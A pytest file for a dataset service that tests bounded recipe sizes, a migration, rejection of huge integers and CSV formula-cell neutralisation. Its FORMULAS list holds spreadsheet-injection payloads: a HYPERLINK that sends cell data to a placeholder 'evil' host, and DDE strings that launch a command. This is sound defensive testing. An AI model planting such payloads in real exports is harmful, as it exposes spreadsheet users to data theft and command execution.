"""Issue 16, findings 4, 6 (datasets) and 8: recipes that double, huge integers, formula cells.

* Finding 4: a recipe names its parent and each join's other side by dataset id and keeps every
  dataset it reads once (a DAG), so ``derive(D_n, [select key, join D_n])`` sixteen times grows
  the stored recipe linearly, not 2**16-fold; depth, distinct datasets, steps and bytes have
  ceilings (``CENTROID_MAX_RECIPE_*``, 400 before any data is read); listings show a summary,
  never recipes; a model trained 12 derives deep answers a one-row raw prediction in
  milliseconds, and keeps working after the datasets its recipe names are deleted. Recipes
  stored nested before migration 0004 are rewritten by it and still read by the code.
* Finding 6: ``10**400`` in JSON dataset rows or as a ``fillna`` value is a 400 naming the row
  and column, or the field, never a 500 ``OverflowError``; ``10**18`` is stored.
* Finding 8: CSV downloads give every cell back exactly (``"\\t=1"`` included) unless
  ``spreadsheet_safe=true`` asks for formula cells to be neutralised (OWASP: a leading ``'``).
"""

from __future__ import annotations

import csv
import io
import json
import time
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from alembic import command
from fastapi.testclient import TestClient
from sqlalchemy import text

from service.datasets.online import compile_recipe
from service.datasets.transforms import derived_recipe, recipe_graph, replay
from service.db.migrate import alembic_config, current_revision, upgrade_to_head
from service.db.session import Database
from service.main import create_app
from service.settings import Settings
from tests.helpers import assert_error, deployed, derive, trained_model, upload_csv

KEYED = ("k,x,y\n" + "".join(f"r{i},{i % 7 + 0.5 * i},{(i * 3) % 11}\n" for i in range(30))).encode()


def doubling_chain(client: TestClient, levels: int, first: str) -> list[dict[str, Any]]:
    """The issue's reproduction: ``D_{n+1} = derive(D_n, [select k, join D_n])``, ``levels`` times."""
    chain = [client.get(f"/datasets/{first}").json()]
    for level in range(levels):
        dataset_id = chain[-1]["id"]
        steps = [{"op": "select", "columns": ["k"]}, {"op": "join", "dataset_id": dataset_id}]
        chain.append(derive(client, dataset_id, f"d{level + 1}", steps))
    return chain


def stored_bytes(recipe: dict[str, Any]) -> int:
    return len(json.dumps(recipe, separators=(",", ":")))


# --- finding 4: recipes by reference, bounded -----------------------------------------------------


def test_a_recipe_that_used_to_double_grows_linearly(client: TestClient) -> None:
    base = upload_csv(client, "d0", KEYED, "k")
    chain = doubling_chain(client, 16, base["id"])
    sizes = [stored_bytes(dataset["recipe"]) for dataset in chain]
    # Each level adds one node of a fixed size (the ids' and steps' JSON): linear, not 2**16.
    steps = {b - a for a, b in zip(sizes[1:], sizes[2:], strict=False)}
    assert max(steps) - min(steps) <= 2 and sizes[-1] < 16 * 400, sizes
    deepest = chain[-1]
    assert deepest["recipe_summary"]["depth"] == 16 and deepest["recipe_summary"]["datasets"] == 17
    assert deepest["recipe_summary"]["bytes"] == sizes[-1]
    assert set(recipe_graph(deepest["recipe"]).nodes) == {d["id"] for d in chain[:-1]}  # each dataset once
    assert client.get(f"/datasets/{deepest['id']}/rows").json()["rows"][0][0] == "r0"

    started = time.perf_counter()
    listing = client.get("/datasets", params={"limit": 100})
    elapsed = time.perf_counter() - started
    assert listing.status_code == 200
    items = listing.json()["items"]
    assert len(items) == 17 and all("recipe" not in item for item in items)  # a summary, never the recipe
    assert items[0]["recipe_summary"]["depth"] == 16
    assert len(listing.content) < 17 * 1000 and elapsed < 2.0, (len(listing.content), elapsed)

    # Replay and compile visit each dataset once: milliseconds, not 2**16 replays.
    started = time.perf_counter()
    replayed = replay(deepest["recipe"], pd.DataFrame({"k": ["q"], "x": [1.5], "y": [2.0]}))
    compiled = compile_recipe(deepest["recipe"], ["x", "y"], "k")
    assert time.perf_counter() - started < 0.5
    assert replayed.to_dict("list") == {"k": ["q"], "x": [1.5], "y": [2.0]}
    assert compiled.matrix([{"x": 1.5, "y": 2.0}]).tolist() == [[1.5, 2.0]]


@pytest.fixture
def tight(settings: Settings) -> Settings:
    return settings.model_copy(
        update={"max_recipe_depth": 4, "max_recipe_datasets": 6, "max_recipe_steps": 8, "max_recipe_bytes": 4096}
    )


@pytest.fixture
def tight_client(tight: Settings) -> Any:
    with TestClient(create_app(tight)) as test_client:
        yield test_client


def _dataset_count(client: TestClient) -> int:
    return int(client.get("/datasets").json()["total"])


def test_recipe_depth_is_bounded(tight_client: TestClient) -> None:
    base = upload_csv(tight_client, "d0", KEYED, "k")
    chain = doubling_chain(tight_client, 4, base["id"])
    before = _dataset_count(tight_client)
    steps = [{"op": "select", "columns": ["k"]}, {"op": "join", "dataset_id": chain[-1]["id"]}]
    response = tight_client.post(f"/datasets/{chain[-1]['id']}/derive", json={"name": "deep", "steps": steps})
    error = assert_error(response, 400, "invalid_input", "CENTROID_MAX_RECIPE_DEPTH")
    assert error["details"]["limit"] == 4 and error["details"]["value"] == 5
    assert _dataset_count(tight_client) == before


def test_recipe_datasets_steps_and_bytes_are_bounded(tight_client: TestClient) -> None:
    uploads = [upload_csv(tight_client, f"u{i}", f"k,c{i}\na,1\nb,2\n".encode(), "k")["id"] for i in range(6)]
    joins = [{"op": "join", "dataset_id": dataset_id} for dataset_id in uploads[1:]]
    response = tight_client.post(f"/datasets/{uploads[0]}/derive", json={"name": "wide", "steps": joins})
    assert_error(response, 400, "invalid_input", "CENTROID_MAX_RECIPE_DATASETS")  # 7 datasets > 6

    scale = {"op": "scale", "columns": ["c0"], "method": "standard"}
    response = tight_client.post(f"/datasets/{uploads[0]}/derive", json={"name": "long", "steps": [scale] * 9})
    assert_error(response, 400, "invalid_input", "CENTROID_MAX_RECIPE_STEPS")

    names = [f"a_rather_long_column_name_{i:03d}" for i in range(120)]
    wide = upload_csv(tight_client, "wide", (",".join(["k", *names]) + "\na" + ",1" * 120 + "\n").encode(), "k")
    response = tight_client.post(
        f"/datasets/{wide['id']}/derive", json={"name": "b", "steps": [{"op": "select", "columns": names}]}
    )
    assert_error(response, 400, "invalid_input", "CENTROID_MAX_RECIPE_BYTES")
    assert _dataset_count(tight_client) == 7


def test_a_model_trained_12_derives_deep_predicts_in_milliseconds_and_outlives_its_datasets(
    client: TestClient, settings: Settings
) -> None:
    base = upload_csv(client, "d0", KEYED, "k")
    scaled = derive(client, base["id"], "scaled", [{"op": "scale", "columns": ["x"], "feature_range": [0, 1]}])
    chain = doubling_chain(client, 11, scaled["id"])
    assert chain[-1]["recipe_summary"]["depth"] == 12
    model = trained_model(client, chain[-1]["id"], feature_columns=["x", "y"])
    assert model["recipe"] == chain[-1]["recipe"]
    deployed(client, model["id"])
    row = {"rows": [{"k": "q", "x": 0.5, "y": 3.0}], "raw": True}
    first = client.post("/endpoints/ep/predictions", json=row)
    assert first.status_code == 200, first.text
    timings = []
    for _ in range(5):
        started = time.perf_counter()
        response = client.post("/endpoints/ep/predictions", json=row)
        timings.append(time.perf_counter() - started)
        assert response.json() == first.json()
    assert sorted(timings)[2] < 0.1, timings  # milliseconds (it took 5.8 s before)
    centroids = client.get(f"/models/{model['id']}/centroids").json()

    # Every dataset the recipe names but the training set is deleted; the model does not notice.
    for dataset in [base, *chain[:-1]]:
        assert client.delete(f"/datasets/{dataset['id']}").status_code == 204
    assert client.get(f"/models/{model['id']}/centroids").json() == centroids  # original units still computed
    with TestClient(create_app(settings)) as fresh:  # a new process compiles the recipe from the model row
        assert fresh.post("/endpoints/ep/predictions", json=row).json() == first.json()
    assert (
        derive(client, chain[-1]["id"], "after", [{"op": "select", "columns": ["x"]}])["recipe_summary"]["depth"] == 13
    )


# --- migration 0004: nested recipes stored before it ---------------------------------------------


def _nested_doubling(levels: int) -> tuple[dict[str, Any], dict[str, Any]]:
    """A pre-0004 recipe: each level embeds its parent twice (as ``parent`` and as the join's ``right``)."""
    recipe: dict[str, Any] = {"source": "upload", "filename": "d0.csv", "columns": ["k", "x", "y"]}
    scale = {"op": "scale", "columns": ["x"], "method": "minmax", "feature_range": [0.0, 1.0]}
    recipe = {
        "source": "derived",
        "parent_id": "ds-0",
        "parent": recipe,
        "steps": [{**scale, "params": {"x": {"min": 0.5, "max": 20.0}}}],
    }
    for level in range(1, levels + 1):
        join = {"op": "join", "dataset_id": f"ds-{level}", "how": "inner", "on": "k", "right": recipe}
        recipe = {
            "source": "derived",
            "parent_id": f"ds-{level}",
            "parent": recipe,
            "steps": [{"op": "select", "columns": ["k"]}, join],
        }
    return recipe, {"k": "q", "x": 10.25, "y": 3.0}


def test_migration_0004_rewrites_nested_recipes_by_reference(database_url: str, tmp_path: Path) -> None:
    database = Database(database_url)
    nested, raw = _nested_doubling(10)
    try:
        config = alembic_config(database_url)
        with database.engine.connect() as connection:
            config.attributes["connection"] = connection
            command.upgrade(config, "0003")
            connection.commit()
            for dataset_id, recipe in (("ds-up", {"source": "upload", "columns": ["k", "x", "y"]}), ("ds-n", nested)):
                connection.execute(
                    text(
                        "INSERT INTO datasets (id, name, key_column, columns, row_count, size_bytes, storage_key, "
                        "recipe, created_at) VALUES (:id, 'n', 'k', '[]', 1, 1, :key, :recipe, :now)"
                    ),
                    {
                        "id": dataset_id,
                        "key": f"datasets/{dataset_id}.parquet",
                        "recipe": json.dumps(recipe),
                        "now": "2026-01-01 00:00:00",
                    },
                )
            connection.execute(
                text(
                    "INSERT INTO models (id, name, source, key_column, feature_names, k, feature_dim, centroids, "
                    "hyperparameters, recipe, metrics, artifact_key, artifact_sha256, artifact_size, created_at) "
                    "VALUES ('mdl-n', 'm', 'import', 'k', '[\"x\", \"y\"]', 1, 2, '[[0.0, 0.0]]', '{}', :recipe, "
                    "'{}', 'models/m.tar.gz', '', 0, :now)"
                ),
                {"recipe": json.dumps(nested), "now": "2026-01-01 00:00:00"},
            )
            connection.commit()
        assert len(json.dumps(nested)) > 2**10 * 100  # 2**10 copies of the base recipe

        upgrade_to_head(database.engine)
        assert current_revision(database.engine) >= "0004"
        with database.engine.connect() as connection:
            rows: dict[str, Any] = {r[0]: r[1] for r in connection.execute(text("SELECT id, recipe FROM datasets"))}
            summaries: dict[str, Any] = {
                r[0]: r[1] for r in connection.execute(text("SELECT id, recipe_summary FROM datasets"))
            }
            model_recipe = connection.execute(text("SELECT recipe FROM models")).scalar_one()
        loaded = {key: json.loads(value) if isinstance(value, str) else value for key, value in rows.items()}
        summary = {k: json.loads(v) if isinstance(v, str) else v for k, v in summaries.items()}
        model_recipe = json.loads(model_recipe) if isinstance(model_recipe, str) else model_recipe
        converted = loaded["ds-n"]
        assert "parent" not in converted and set(converted["inputs"]) == {f"ds-{i}" for i in range(11)}
        assert stored_bytes(converted) < 6000 and model_recipe == converted
        assert summary["ds-n"]["depth"] == 11 and summary["ds-n"]["datasets"] == 12
        assert summary["ds-up"] == {
            "source": "upload",
            "parent_id": None,
            "inputs": [],
            "depth": 0,
            "datasets": 1,
            "steps": 0,
            "bytes": summary["ds-up"]["bytes"],
        }
        # Same transform either way, bit for bit.
        frame = pd.DataFrame([raw])
        assert replay(converted, frame).to_dict("list") == replay(nested, frame).to_dict("list")
        assert compile_recipe(converted, ["x", "y"], "k").matrix([raw]).tolist() == [[0.5, 3.0]]

        with database.engine.connect() as connection:  # and back: the nested form the older code reads
            config.attributes["connection"] = connection
            command.downgrade(config, "0003")
            connection.commit()
            back = connection.execute(text("SELECT recipe FROM datasets WHERE id = 'ds-n'")).scalar_one()
        assert (json.loads(back) if isinstance(back, str) else back) == nested
    finally:
        database.dispose()


def test_recipes_in_the_nested_form_still_compile_and_derive() -> None:
    """Rows the migration did not see (or hand-made recipes) are read as well."""
    nested, raw = _nested_doubling(12)
    compiled = compile_recipe(nested, ["x", "y"], "k")
    assert compiled.programs is not None and compiled.matrix([raw]).tolist() == [[0.5, 3.0]]
    child = derived_recipe("ds-13", [{"op": "select", "columns": ["x"]}], {"ds-13": nested})
    assert set(child["inputs"]) == {f"ds-{i}" for i in range(14)}


# --- finding 6: integers beyond float range --------------------------------------------------------


def _post_json(client: TestClient, body: str) -> Any:
    return client.post("/datasets", content=body, headers={"content-type": "application/json"})


@pytest.mark.parametrize("value", [10**400, -(10**400), 10**318], ids=["10**400", "-10**400", "10**318"])
def test_a_huge_integer_in_json_rows_is_a_400_naming_row_and_column(client: TestClient, value: int) -> None:
    body = f'{{"name": "n", "key_column": "k", "columns": ["k", "v"], "rows": [["a", 1], ["b", {value}]]}}'
    error = assert_error(_post_json(client, body), 400, "invalid_input", "column 'v' row 1")
    assert error["details"]["column"] == "v" and error["details"]["row"] == 1
    assert len(json.dumps(error)) < 1000  # the digits are not echoed back in full


def test_big_but_float_sized_integers_are_stored(client: TestClient) -> None:
    body = f'{{"name": "n", "key_column": "k", "columns": ["k", "v"], "rows": [["a", {10**18}], ["b", {2**64}]]}}'
    response = _post_json(client, body)
    assert response.status_code == 201, response.text
    rows = client.get(f"/datasets/{response.json()['id']}/rows").json()["rows"]
    assert rows == [["a", 1e18], ["b", float(2**64)]]


@pytest.mark.parametrize("value", [10**400, -(10**400)], ids=["10**400", "-10**400"])
def test_a_huge_fillna_value_is_a_400_naming_the_field(client: TestClient, value: int) -> None:
    body = _post_json(
        client, '{"name": "n", "key_column": "k", "columns": ["k", "v"], "rows": [["a", 1], ["b", null]]}'
    )
    dataset_id = body.json()["id"]
    step = f'{{"name": "f", "steps": [{{"op": "fillna", "strategy": "constant", "value": {value}}}]}}'
    response = client.post(f"/datasets/{dataset_id}/derive", content=step, headers={"content-type": "application/json"})
    error = assert_error(response, 400, "invalid_input", "step 0 (fillna)")
    assert "`value`" in error["message"] and error["details"]["field"] == "value"
    fine = f'{{"name": "f", "steps": [{{"op": "fillna", "strategy": "constant", "value": {10**18}}}]}}'
    response = client.post(f"/datasets/{dataset_id}/derive", content=fine, headers={"content-type": "application/json"})
    assert response.status_code == 201, response.text
    assert client.get(f"/datasets/{response.json()['id']}/rows").json()["rows"][1] == ["b", 1e18]


# --- finding 8: formula cells in CSV downloads -----------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1;"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
]


def _cells(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text, newline="")))


def test_csv_downloads_are_exact_by_default_and_neutralised_on_request(client: TestClient) -> None:
    text_cells = [*FORMULAS, "-3", "+1.5", "plain", " padded ", 'a "quoted", cell', "two\nlines"]
    rows = [[f"r{i}", cell, -1.5 * i] for i, cell in enumerate(text_cells)]
    body = {"name": "f", "key_column": "k", "columns": ["k", "=text", "num"], "rows": rows}
    dataset = client.post("/datasets", json=body).json()

    exact = client.get(f"/datasets/{dataset['id']}/csv")
    assert exact.status_code == 200 and exact.headers["content-type"].startswith("text/csv")
    cells = _cells(exact.text)
    assert cells[0] == ["k", "=text", "num"]
    assert [row[1] for row in cells[1:]] == text_cells  # "\t=1" included: nothing trimmed, nothing added
    assert [float(row[2]) for row in cells[1:]] == [-1.5 * i for i in range(len(text_cells))]

    safe = _cells(client.get(f"/datasets/{dataset['id']}/csv", params={"spreadsheet_safe": "true"}).text)
    assert safe[0] == ["k", "'=text", "num"]
    assert [row[1] for row in safe[1:]] == [*("'" + f for f in FORMULAS), *text_cells[len(FORMULAS) :]]
    assert [row[2] for row in safe[1:]] == [row[2] for row in cells[1:]]  # numbers untouched, negatives too


def test_a_tab_led_cell_round_trips_through_upload_and_download(client: TestClient) -> None:
    original = b'k,v\na,"\t=1"\nb, x \nc,=1\n'
    dataset = upload_csv(client, "t", original, "k")
    assert client.get(f"/datasets/{dataset['id']}/rows").json()["rows"] == [["a", "\t=1"], ["b", " x "], ["c", "=1"]]
    downloaded = client.get(f"/datasets/{dataset['id']}/csv").content
    again = upload_csv(client, "t2", downloaded, "k")
    assert client.get(f"/datasets/{again['id']}/csv").content == downloaded
    assert _cells(downloaded.decode())[1:] == [["a", "\t=1"], ["b", " x "], ["c", "=1"]]


def test_an_integer_of_thousands_of_digits_in_json_rows_is_a_400(client: TestClient) -> None:
    body = '{"name": "n", "columns": ["v"], "rows": [[1' + "0" * 5000 + "]]}"
    assert_error(_post_json(client, body), 400, "invalid_input", "4300 digits")


def test_the_downgrade_refuses_a_recipe_that_would_explode_once_nested() -> None:
    import importlib.util

    path = Path(__file__).resolve().parents[2] / "service/db/migrations/versions/0004_recipes_by_reference.py"
    spec = importlib.util.spec_from_file_location("migration_0004", path)
    assert spec is not None and spec.loader is not None
    migration = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(migration)
    recipe: dict[str, Any] = {"source": "upload", "columns": ["k", "x"]}
    stored = {"ds-0": recipe}
    for level in range(1, 33):
        steps: list[dict[str, Any]] = [
            {"op": "select", "columns": ["k"]},
            {"op": "join", "dataset_id": f"ds-{level - 1}"},
        ]
        stored[f"ds-{level}"] = derived_recipe(f"ds-{level - 1}", steps, {f"ds-{level - 1}": stored[f"ds-{level - 1}"]})
    assert stored_bytes(stored["ds-32"]) < 10_000
    assert migration._nested_size(stored["ds-32"]) > 2**32  # what the older form would have stored
    nested = len(json.dumps(migration._nested(stored["ds-3"])))
    assert 0.8 * nested < migration._nested_size(stored["ds-3"]) <= nested  # a close estimate
